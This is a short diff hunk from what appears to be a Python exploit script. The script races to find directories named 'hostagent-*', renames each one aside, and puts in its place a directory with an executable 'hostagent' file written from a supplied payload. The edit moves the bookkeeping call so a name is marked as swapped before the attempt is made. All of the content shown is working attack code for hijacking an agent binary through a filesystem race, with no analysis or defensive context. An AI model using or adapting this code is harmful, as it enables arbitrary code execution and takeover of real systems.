@@ -49,13 +49,13 @@ end = time.monotonic() + float(sys.argv[3])
 while time.monotonic() < end:
     for name in os.listdir(fd):
         if name.startswith("hostagent-") and "." not in name and name not in swapped:
+            swapped.add(name)
             try:
                 os.rename(name, name + ".moved", src_dir_fd=fd, dst_dir_fd=fd)
                 os.mkdir(name, 0o755, dir_fd=fd)
                 out = os.open(name + "/hostagent", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=fd)
                 os.write(out, payload)
                 os.close(out)
-                swapped.add(name)
                 print("swapped", name, flush=True)
             except OSError as e:
                 print("failed", name, e, flush=True)
